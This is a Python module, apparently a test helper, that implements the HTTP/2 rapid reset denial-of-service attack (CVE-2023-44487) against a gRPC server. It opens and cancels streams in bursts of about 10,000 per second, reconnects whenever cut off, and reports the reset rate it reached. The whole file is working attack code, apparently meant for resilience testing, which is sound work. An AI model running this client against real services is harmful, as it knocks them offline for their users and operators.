"""A client that opens calls and resets them at once: the rapid reset attack (CVE-2023-44487)."""

import multiprocessing
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from multiprocessing.sharedctypes import Synchronized
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError

METHOD: Final = "/tandem.v1.RecommendationService/Recommend"
PER_SECOND: Final = 10_000
BURST_SECONDS: Final = 0.01


@dataclass
class Resets:
    """What such a client did."""

    per_second: float = 0.0


@contextmanager
def resetting(address: str, per_second: int = PER_SECOND) -> Iterator[Resets]:
    """Runs one in a process of its own, for as long as the block takes.

    Yields:
        What it did, once the block is over.
    """
    context = multiprocessing.get_context("spawn")
    count = context.Value("Q", 0)
    process = context.Process(target=reset_on, args=(address, per_second, count), daemon=True)
    process.start()
    try:
        while not count.value:
            if not process.is_alive():
                raise ChildProcessError("the resetting client ended")
            time.sleep(0.01)
        started, before, resets = time.perf_counter(), count.value, Resets()
        yield resets
        resets.per_second = (count.value - before) / (time.perf_counter() - started)
    finally:
        process.terminate()
        process.join()


@contextmanager
def connected(address: str) -> Iterator[tuple[socket.socket, H2Connection]]:
    """A connection to a gRPC server, and its state; whoever writes sends `data_to_send()`."""
    host, _, port = address.rpartition(":")
    # Headers are always the same and right: checking them would halve the rate.
    connection = H2Connection(
        H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
    )
    connection.initiate_connection()
    with socket.create_connection((host, int(port))) as wire:
        wire.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        wire.sendall(connection.data_to_send())
        yield wire, connection


def open_call(connection: H2Connection, timeout_seconds: int, method: str = METHOD) -> int:
    """Opens a call, whose message is still to come; returns its stream."""
    stream = connection.get_next_available_stream_id()
    connection.send_headers(
        stream,
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("grpc-timeout", f"{timeout_seconds}S"),
        ],
    )
    return stream


def reset_on(address: str, per_second: int, count: "Synchronized[int]") -> None:
    """Opens and resets calls forever; connects again whenever it is cut off."""
    while True:
        with suppress(ConnectionError, ProtocolError), connected(address) as (wire, connection):
            _reset_until_cut_off(wire, connection, per_second, count)


def _reset_until_cut_off(
    wire: socket.socket, connection: H2Connection, per_second: int, count: "Synchronized[int]"
) -> None:
    burst, due = max(1, round(per_second * BURST_SECONDS)), time.perf_counter()
    while True:
        for _ in range(burst):
            connection.reset_stream(open_call(connection, 2), ErrorCodes.CANCEL)
        with suppress(BlockingIOError):
            if not (came := wire.recv(65_536, socket.MSG_DONTWAIT)):
                return
            connection.receive_data(came)
        wire.sendall(connection.data_to_send())
        count.value += burst
        due += BURST_SECONDS
        time.sleep(max(0.0, due - time.perf_counter()))
